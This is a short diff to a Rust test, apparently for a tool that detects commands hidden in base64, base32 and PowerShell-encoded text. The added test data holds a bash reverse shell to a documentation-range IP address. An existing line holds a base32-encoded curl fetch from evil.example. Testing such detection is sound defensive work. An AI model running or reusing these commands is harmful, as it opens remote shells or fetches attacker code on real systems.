@@ -34,6 +34,8 @@ fn base64_in_every_form() {
     let wide: Vec<u8> = PAYLOAD.encode_utf16().flat_map(u16::to_le_bytes).collect();
     let layers = find(&format!("powershell -NoP -enc {}", base64(&wide)));
     assert_eq!(layers.first().map(|l| (l.text.as_str(), l.language)), Some((PAYLOAD, Some(Language::PowerShell))));
+    let shell = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1";
+    check(&base64(shell.as_bytes()), &[("base64", shell)]);
     check("MN2XE3BAFVZSA2DUORYHGORPF5SXM2LMFZSXQYLNOBWGKL3Y", &[("base32", "curl -s https://evil.example/x")]);
 }
 
